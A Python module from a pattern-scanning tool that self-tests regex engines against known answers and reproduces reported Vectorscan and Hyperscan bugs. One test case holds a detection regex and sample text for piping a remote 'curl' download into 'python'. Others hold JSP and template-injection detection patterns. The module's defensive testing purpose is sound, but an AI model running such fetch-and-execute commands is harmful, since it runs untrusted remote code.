"""Known answers: texts of which it is known what an engine must see in them.

They are made when the rules are compiled and asked whenever an artifact is opened, in about a millisecond,
because engines do miss matches (`docs/decisions/0001-literals-select-python-confirms.md`), and which engine is
installed is not the artifact's choice.  One that fails is not asked again: every rule is confirmed on every event.

An engine can search for literals and for regexes, in code of its own for each.  Artifacts use the first mode alone.
`PUBLISHED` says how the second one stands: misses that others have reported, for `ttpc doctor` to try.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Collection, Iterator
from typing import NamedTuple

PADDINGS = (0, 1, 15, 16, 31, 32, 63, 64)
"""Bytes before what is looked for.

An engine reads a text in blocks of 16 to 64 bytes and treats what is left at its ends in other code.
"""


class Answer(NamedTuple):
    """A text as it is scanned, and the numbers of the literal sets that occur in it."""

    text: bytes
    numbers: frozenset[int]


class Attestation(NamedTuple):
    """What asking an engine gave."""

    engine: str
    """Binding, version and CPU architecture."""
    asked: int
    wrong: tuple[Answer, ...]
    """Those that the engine got wrong; the answers are the right ones."""

    @property
    def passed(self) -> bool:
        return not self.wrong


def attest(
    engine: str, seen_in: Callable[[bytes], Collection[int]], answers: Collection[Answer]
) -> Attestation:
    """Ask every question.  `seen_in`: the numbers that the engine sees in a text."""
    wrong = tuple(each for each in answers if frozenset(seen_in(each.text)) != each.numbers)
    return Attestation(engine, len(answers), wrong)


def read_answers(content: bytes) -> list[Answer]:
    """`answers.json`: texts are bytes, written as the text with the same code points."""
    return [
        Answer(text.encode("latin-1"), frozenset(numbers)) for text, numbers in json.loads(content)
    ]


def write_answers(answers: Collection[Answer]) -> bytes:
    """The reverse of `read_answers`: JSON, one answer per line."""
    lines = (json.dumps([each.text.decode("latin-1"), sorted(each.numbers)]) for each in answers)
    return ("[\n" + ",\n".join(lines) + "\n]\n").encode()


# ── misses that others have reported ───────────────────────────────────────────────────────────────────────


class Published(NamedTuple):
    """A miss of regexes that share a database, as it was reported."""

    report: str
    """Repository and issue."""
    flags: re.RegexFlag
    """Of all the patterns."""
    patterns: tuple[bytes, ...]
    text: bytes

    @property
    def link(self) -> str:
        return f"https://github.com/{self.report.replace('#', '/issues/')}"

    def placed(self) -> Iterator[bytes]:
        """The text as it was published, and behind each of the other paddings."""
        return (b"x" * padding + self.text for padding in PADDINGS)

    def answers(self) -> tuple[Answer, ...]:
        """Numbers of the patterns that `re` finds, wherever the text stands."""
        regexes = [re.compile(pattern, self.flags) for pattern in self.patterns]
        return tuple(
            Answer(text, frozenset(n for n, regex in enumerate(regexes) if regex.search(text)))
            for text in self.placed()
        )


PUBLISHED = (
    Published(
        "VectorCamp/vectorscan#382",
        re.DOTALL,
        (rb"curl.*\|\s*python",),
        b"curl http://vader:8080/ 2>&1 | python",
    ),
    Published(
        "VectorCamp/vectorscan#358",
        re.NOFLAG,
        (
            rb"<%[\s\S]+%>",
            (
                rb"<[^<>]+:(include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element"
                rb"|attribute|body|fallback|params|param|output|root)"
            ),
            rb"[\$#]{[\s\S]+\([\s\S]*\)[\s\S]*}",
        ),
        b"<%out.print();int a%>",
    ),
    Published(
        "gliwka/hyperscan-java#231",
        re.IGNORECASE,
        (
            rb"^.*TAPIOCA.*EX.*$",
            rb"^.*BOBA.*GUY.*$",
            rb"^.*PAYPAL.*JACQUES.*MARI.*$",
            rb"^GUCCI FRANCE.*$",
            rb"^PAYPAL \*YVESSAINTL.*$",
            rb"^DD.*FIREHO 855-973-1040$",
            rb"^.*XING.*FU.*TAN.*$",
        ),
        b"TAPIOCA HOUSE TUXTLA GUTIER MEX",
    ),
)
"""Vectorscan 5.4.12 shows all of them, 5.4.11 none."""
